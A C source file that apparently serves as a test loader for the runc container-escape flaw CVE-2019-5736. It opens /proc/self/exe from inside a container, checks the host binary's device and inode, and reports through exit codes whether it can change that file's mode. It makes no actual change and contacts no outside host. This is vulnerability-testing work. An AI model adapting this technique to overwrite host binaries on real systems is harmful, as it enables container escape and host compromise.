/* The loader of an image that is out to change the program that starts its containers (CVE-2019-5736):
 * the image's command is a script whose interpreter is /proc/self/exe, which at that moment is the
 * host's Python; and the kernel starts that by the loader which it names, from the image: this.
 *
 * Exits with 42 if it may change the mode of the host's Python, which is the file INODE on DEVICE (it sets
 * MODE, what it is already); with 3 if that is another file.
 *
 * cc -DMODE=0755 -DDEVICE=1 -DINODE=2 -nostdlib -static-pie -fPIE -ffreestanding -o loader selfexe.c */
#if defined __x86_64__
enum { OPENAT = 257, FSTAT = 5, FCHMOD = 91, EXIT = 231 };
static long call(long number, long one, long two, long three) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(one), "S"(two), "d"(three) : "rcx", "r11", "memory");
    return result;
}
#else
enum { OPENAT = 56, FSTAT = 80, FCHMOD = 52, EXIT = 94 };
static long call(long number, long one, long two, long three) {
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = one, x1 __asm__("x1") = two, x2 __asm__("x2") = three;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
}
#endif

void _start(void) {
    static const char path[] = "/proc/self/exe";
    long program = call(OPENAT, -100, (long)path, 0);
    long status[64];  /* struct stat, which begins with device and inode */
    if (program < 0 || call(FSTAT, program, (long)status, 0) != 0) call(EXIT, 1, 0, 0);
    if (status[0] != DEVICE || status[1] != INODE) call(EXIT, 3, 0, 0);
    call(EXIT, call(FCHMOD, program, MODE, 0) == 0 ? 42 : 2, 0, 0);
}
